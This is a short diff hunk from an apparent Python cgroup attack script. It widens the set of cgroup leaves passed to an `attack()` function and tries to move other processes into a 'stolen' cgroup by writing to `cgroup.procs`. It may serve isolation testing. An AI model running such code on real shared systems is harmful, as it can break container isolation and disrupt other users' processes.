@@ -80,7 +80,7 @@ def main():
             version = "v2" if os.path.exists(f"{mount}/cgroup.controllers") else "v1"
             with contextlib.suppress(OSError):
                 os.mkdir(f"{own}/stolen")
-            for leaf in set(leaves(mount, 3)) | set(leaves(own, 2)):
+            for leaf in set(leaves(mount, 3)) | set(leaves(os.path.dirname(own), 3)):
                 attack(leaf, own, version)
             for client in clients():
                 attempt("move a client", version, lambda: write(f"{own}/stolen/cgroup.procs" if turn % 2 else f"{own}/cgroup.procs", client))
